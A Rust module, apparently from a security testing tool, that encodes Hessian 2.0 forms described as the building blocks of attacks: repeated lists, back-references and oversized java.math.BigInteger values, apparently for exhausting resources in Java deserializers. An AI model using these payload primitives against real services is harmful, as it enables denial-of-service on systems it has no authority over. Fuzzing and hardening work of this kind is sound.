//! The few forms of Hessian 2.0 that attacks are made of.

/// Source: the grammar of Hessian 2.0.
pub(super) const NULL: u8 = b'N';
pub(super) const TRUE: u8 = b'T';
/// The integer 1.
pub(super) const ONE: u8 = 0x91;
/// An untyped list of no items.
pub(super) const EMPTY_LIST: u8 = 0x78;

/// A text of ASCII below 64 KiB.
pub(super) fn text(to: &mut Vec<u8>, text: &str) {
    to.push(b'S');
    let length = u16::try_from(text.len()).unwrap_or(u16::MAX);
    to.extend_from_slice(&length.to_be_bytes());
    to.extend_from_slice(text.as_bytes());
}

pub(super) fn int(value: i32) -> Vec<u8> {
    let mut bytes = vec![b'I'];
    bytes.extend_from_slice(&value.to_be_bytes());
    bytes
}

/// An untyped list of one item, so many times.
pub(super) fn list(item: u8, times: usize) -> Vec<u8> {
    let mut bytes = vec![0x58];
    bytes.extend(int(i32::try_from(times).unwrap_or(i32::MAX)));
    bytes.resize(bytes.len() + times, item);
    bytes
}

/// A reference to a list, map or object, by the order in which they began.
pub(super) fn reference(to: &mut Vec<u8>, index: i32) {
    to.push(0x51);
    to.extend(int(index));
}

/// A `java.math.BigInteger` of so many words.
pub(super) fn big_integer(words: usize) -> Vec<u8> {
    let mut bytes = vec![b'C'];
    text(&mut bytes, "java.math.BigInteger");
    bytes.push(0x92);
    text(&mut bytes, "signum");
    text(&mut bytes, "mag");
    bytes.extend([0x60, ONE, b'V']);
    text(&mut bytes, "[int");
    bytes.extend(int(i32::try_from(words).unwrap_or(i32::MAX)));
    for _ in 0..words {
        bytes.extend(int(i32::MAX));
    }
    bytes
}
